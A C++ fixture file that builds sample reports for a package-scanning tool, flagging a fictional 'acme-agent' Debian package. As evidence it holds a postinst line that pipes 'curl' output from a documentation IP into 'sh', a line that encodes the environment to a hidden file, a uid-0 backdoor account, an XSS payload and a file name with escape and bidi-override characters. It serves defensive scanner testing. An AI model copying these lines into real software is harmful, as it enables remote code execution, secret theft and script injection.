// See report/sample_report.h. Reserved names and documentation addresses only.
#include "report/sample_report.h"

namespace report::sample {

using evidence::Facet;
using evidence::Label;

void add_findings(Builder& b, artifact::NodeId postinst, artifact::NodeId shadow, artifact::NodeId agent, artifact::NodeId blob, artifact::NodeId odd) {
  const auto account = b.exhibit(shadow, Facet::trust, "backdoor-account", "toor", 57, "toor:[redacted fingerprint 1f2e3d4c]:0:0::/root:/bin/sh\n", {{"line", "3"}, {"uid", "0"}});
  const auto fetch = b.exhibit(postinst, Facet::command, "execute-command", "curl -s http://198.51.100.7/s | sh", 112, "curl -s http://198.51.100.7/s | sh\n", {{"line", "6"}, {"from", "network"}, {"runs", "postinst"}});
  const auto source = b.exhibit(postinst, Facet::private_, "environment", "env", 84, "env | base64 -w0 > /tmp/.e\n", {{"line", "5"}});
  const auto listens = b.exhibit(agent, Facet::power, "listen", "bind", 0x1a2c, std::string("\xe8\x4f\xf3\xff\xff\x85\xc0\x78\x1c\x31\xf6\xbf\x05\x00\x00\x00\x00\xff", 18), {{"import", "bind"}});
  const auto connects = b.exhibit(agent, Facet::power, "connect", "connect", 0x1b90, std::string("\xe8\x8b\xf1\xff\xff\x89\xc3", 7));
  const auto opaque = b.exhibit(blob, Facet::concealment, "encrypted-payload", "entropy 7.998", 4096, std::string("\x93\x1f\xa0\x00\xfe\x42\x9b\x17\xcc\x05\x7e\xd1\x33\x90\x1b\x55\x6a\x00\x8f\xe2", 20));
  b.exhibit(agent, Facet::endpoint, "host", "telemetry.example.org", 0x2040, "telemetry.example.org", {{"label", "reserved"}});
  b.exhibit(agent, Facet::endpoint, "url", "https://telemetry.example.org/v1/beat", 0x2038, "https://telemetry.example.org/v1/beat", {{"label", "reserved"}});
  b.exhibit(postinst, Facet::endpoint, "ipv4", "198.51.100.7", 125, "198.51.100.7", {{"label", "documentation"}, {"line", "6"}});
  b.exhibit(agent, Facet::endpoint, "mail", evidence::fingerprint("j.doe@corp.invalid"), 0x2100, "[redacted fingerprint 5ad0f3e1]");
  b.r.evidence.back().item.secret = true;
  const auto strange = b.exhibit(odd, Facet::concealment, "hidden-file", "</script><img src=x onerror=alert(1)>", 0, "<!-- \x1b[2J --> \xe2\x80\xae" "evil", {});

  auto& f1 = b.finding("accounts/backdoor-account", "broken-trust", Severity::critical, Effect::fail, "An account with user id 0 beside root can log in with a fixed password.", {shadow}, {account});
  f1.why = "Whoever knows the password that the maker chose is administrator of every machine that installs this package.";
  f1.settle = "Remove the account, or show that the file is never installed as the system's own.";
  f1.references = {"https://cwe.mitre.org/data/definitions/798.html"};
  auto& f2 = b.finding("steps/fetch-and-execute", "command-flow", Severity::high, Effect::fail, "The install step postinst downloads a program over plain HTTP and runs it.", {postinst}, {fetch, source});
  f2.why = "The bytes that run are not in the package, are not authenticated, and can differ for each machine.";
  f2.settle = "Ship the program in the package, or authenticate it with a key that the package carries.";
  f2.scope = "step";
  auto& f3 = b.finding("concealment/encrypted-payload", "concealment", Severity::medium, Effect::conditional, "A file of 96 KiB is encrypted or compressed in no known form, and a program opens it.", {blob, agent}, {opaque});
  f3.why = "What it holds could not be read, so nothing can be said about it.";
  f3.settle = "Declare the format and hand in the content, or the key that opens it.";
  f3.remedy = "opaque: usr/lib/acme/blob.bin  # purpose, format";
  auto& f4 = b.finding("files/misleading-name", "concealment", Severity::low, Effect::conditional, "A name holds control and bidirectional characters.", {odd}, {strange});
  f4.why = "Such a name looks different from what it is.";
  f4.settle = "Rename the file.";
  f4.waiver = "w-2026-004";
  auto& f5 = b.finding("ability/listens", "ability", Severity::info, Effect::disclose, "Listens on the network.", {agent}, {listens});
  f5.standing = Standing::declared;
  b.finding("ability/connects", "ability", Severity::info, Effect::disclose, "Connects to the network.", {agent}, {connects});
}

Report failing() {
  Builder b;
  b.artifact(artifact::no_node, "", "", 0, Label::handed_on, "product");
  const auto deb = b.artifact(0, "acme-agent_2.4.1_amd64.deb", "deb", 812'344, Label::handed_on, "product");
  const auto control = b.artifact(deb, "control.tar.xz", "xz", 1'204, Label::handed_on);
  const auto control_tar = b.artifact(control, "", "tar", 10'240, Label::handed_on, "layer");
  const auto postinst = b.artifact(control_tar, "./postinst", "script/shell", 402, Label::examined);
  const auto data = b.artifact(deb, "data.tar.xz", "xz", 811'008, Label::handed_on);
  const auto tar = b.artifact(data, "", "tar", 2'170'880, Label::handed_on, "layer");
  const auto shadow = b.artifact(tar, "./etc/shadow", "text", 210, Label::examined);
  const auto agent = b.artifact(tar, "./usr/bin/acme-agent", "elf", 1'402'112, Label::examined);
  const auto blob = b.artifact(tar, "./usr/lib/acme/blob.bin", "data", 98'304, Label::opaque);
  b.artifact(tar, "./usr/share/doc/acme-agent/h\xc3\xa4ndb\xc3\xbc" "cher/\xe8\xaa\xac\xe6\x98\x8e\xe6\x9b\xb8.txt", "text", 48'022, Label::scanned);
  const auto odd = b.artifact(tar, "./usr/share/\x1b[31m</script><img src=x onerror=alert(1)>\xe2\x80\xaetxt.exe\xff", "html", 612, Label::scanned);
  b.artifact(tar, "./usr/share/icons/acme.png", "png", 220'511, Label::structure);
  add_findings(b, postinst, shadow, agent, blob, odd);

  auto& r = b.r;
  r.product = {"acme-agent", "2.4.1", "ACME Monitoring GmbH", "deb", "pkg:deb/acme/acme-agent@2.4.1?arch=amd64", base::sha256("acme-agent").hex(), 812'344, {"acme-agent_2.4.1_amd64.deb"}};
  r.used = {base::sha256("engine").hex(), base::sha256("rules").hex(), base::sha256("policy").hex(), "0.1.0", "default", "2026-03-01", base::sha256("declaration").hex(), {"w-2026-004"}, {{"depth", 32}, {"entries", 1'000'000}}};
  r.verdict = Verdict::fail;
  r.reasons = {{Verdict::fail, "An account with user id 0 beside root can log in with a fixed password.", r.findings[0].id},
               {Verdict::fail, "The install step postinst downloads a program over plain HTTP and runs it.", r.findings[1].id},
               {Verdict::conditional, "5.6 % of the bytes could not be read; the policy allows 1 %.", ""}};
  r.declaration = {{"endpoints", "telemetry.example.org", "usage statistics", "", false, false, "", LineState::confirmed, "assay.declaration.yaml:4"},
                   {"powers", "listen tcp/8080", "local status page", "", false, false, "", LineState::confirmed, "assay.declaration.yaml:9"},
                   {"private", "environment", "none is read", "ACME Monitoring GmbH", false, false, "", LineState::contradicted, "assay.declaration.yaml:12"},
                   {"endpoints", "*", "everything", "", false, true, "wildcards are void", LineState::unobserved, "assay.declaration.yaml:15"},
                   {"powers", "connect", "Network monitoring agent", "", true, false, "", LineState::confirmed, "package description"}};
  r.not_covered = {"Dependencies: libc6, libssl3 and 2 more are not part of this product.", "What http://198.51.100.7/s serves: it is fetched at install and was not read.",
                   "48,634 bytes were only scanned for patterns, not decoded."};
  return r;
}

Report passing() {
  Builder b;
  b.artifact(artifact::no_node, "", "", 0, Label::handed_on, "product");
  const auto tgz = b.artifact(0, "left-trim-1.0.3.tgz", "gzip", 1'822, Label::handed_on, "product");
  const auto tar = b.artifact(tgz, "", "npm", 6'144, Label::handed_on, "layer");
  b.artifact(tar, "package/index.js", "script/javascript", 1'201, Label::examined);
  b.artifact(tar, "package/package.json", "json", 480, Label::examined);
  auto& r = b.r;
  r.product = {"left-trim", "1.0.3", "", "npm", "pkg:npm/left-trim@1.0.3", base::sha256("left-trim").hex(), 1'822, {"left-trim-1.0.3.tgz"}};
  r.used = {base::sha256("engine").hex(), base::sha256("rules").hex(), base::sha256("policy").hex(), "0.1.0", "default", "2026-03-01", "", {}, {{"depth", 32}}};
  r.verdict = Verdict::pass;
  r.reasons = {{Verdict::pass, "Nothing was found that the policy counts against the product.", ""}};
  return r;
}

Report update() {
  Builder b{failing()};
  auto& r = b.r;
  constexpr artifact::NodeId postinst = 4, agent = 8, blob = 9;
  const auto id_of = [&](evidence::Facet facet, std::string_view word) {
    for (auto& e : r.evidence)
      if (e.item.facet == facet && e.item.word == word) {
        e.item.attributes["change"] = "gained";
        e.item.attributes["new-to"] = "product";
        return e.id;
      }
    return std::string();
  };
  Baseline base;
  base.product = {"acme-agent", "2.4.0", "ACME Monitoring GmbH", "deb", "pkg:deb/acme/acme-agent@2.4.0?arch=amd64", base::sha256("acme-agent 2.4.0").hex(), 710'200, {"acme-agent_2.4.0_amd64.deb"}};
  base.verdict = Verdict::pass;
  base.engine = r.used.engine;
  base.rules = r.used.rules;
  base.coverage = r.coverage;
  base.coverage.bytes[static_cast<std::size_t>(Label::opaque)] = 0;
  base.counts = {{"same", 3}, {"changed", 3}, {"renamed", 1}, {"gained", 1}, {"lost", 1}};
  const auto was = [](std::string place, std::string kind, std::uint64_t size) { return ArtifactChange{Fate::changed, artifact::no_node, 0, place, std::move(kind), base::sha256(place).hex(), size, 0}; };
  const auto add = [&](ArtifactChange change, Fate fate, artifact::NodeId node, int distance = 0) {
    change.fate = fate;
    change.node = node;
    change.distance = distance;
    base.artifacts.push_back(std::move(change));
  };
  add(was("acme-agent_2.4.0_amd64.deb//control.tar.xz//(layer)//./postinst", "script/shell", 240), Fate::changed, postinst);
  add(was("acme-agent_2.4.0_amd64.deb//data.tar.xz//(layer)//./usr/sbin/acme-agent", "elf", 1'400'064), Fate::similar, agent, 31);
  add({}, Fate::gained, blob);
  add(was("acme-agent_2.4.0_amd64.deb//data.tar.xz//(layer)//./usr/share/acme/\x1b[2Jold.txt", "text", 88), Fate::lost, artifact::no_node);
  base.places = {base.artifacts[0].place, base.artifacts[1].place, base.artifacts[3].place};
  const auto past = [&](artifact::NodeId place, evidence::Facet facet, std::string word, std::string value, std::uint64_t offset, std::string excerpt) {
    Builder old;
    old.r.artifacts.resize(3);
    old.exhibit(place, facet, std::move(word), std::move(value), offset, std::move(excerpt), {{"line", "4"}});
    base.evidence.push_back(old.r.evidence.back());
    return base.evidence.back().id;
  };
  const auto listens = past(1, Facet::power, "listen", "bind", 0x1a00, std::string("\xe8\x4f\xf3\xff\xff", 5));
  const auto lost = past(0, Facet::endpoint, "host", "updates.example.org", 44, "wget -q https://updates.example.org/key\n");
  base.changes = {{Turn::gained, true, id_of(Facet::command, "execute-command"), ""},
                  {Turn::gained, false, id_of(Facet::private_, "environment"), ""},
                  {Turn::changed, false, id_of(Facet::power, "listen"), listens},
                  {Turn::gained, true, id_of(Facet::concealment, "encrypted-payload"), ""},
                  {Turn::lost, true, "", lost}};
  base.resolved = {{"ability/old", "ability", "disclose", "Asks a server for a key.", base.places[0]}};
  base.declaration = {{Turn::gained, "endpoints", "telemetry.example.org", ""}, {Turn::changed, "powers", "listen tcp/8080", "remote control"}};
  r.findings[0].news = News::unchanged;
  for (std::size_t i = 1; i < r.findings.size(); ++i) r.findings[i].news = i < 3 ? News::fresh : i == 3 ? News::changed : News::unchanged;
  r.used.policy_name = "update";
  r.baseline = std::move(base);
  return r;
}

Report large(std::size_t count) {
  Builder b{failing()};
  for (std::size_t i = 0; i < count; ++i) {
    const auto node = b.artifact(6, fmt::format("./opt/vendor/lib{}/part-{}.so", i % 37, i), "elf", 900 + (i * 7919) % 65'536, static_cast<Label>(1 + i % 6));
    b.exhibit(node, Facet::endpoint, "host", fmt::format("node{}.example.net", i), i, fmt::format("node{}.example.net", i));
    if (i % 10 == 0)
      b.finding("hardening/writable-code", "weak-protection", Severity::low, Effect::conditional, "Memory is writable and executable.", {node}, {b.r.evidence.back().id});
  }
  return b.r;
}

}  // namespace report::sample
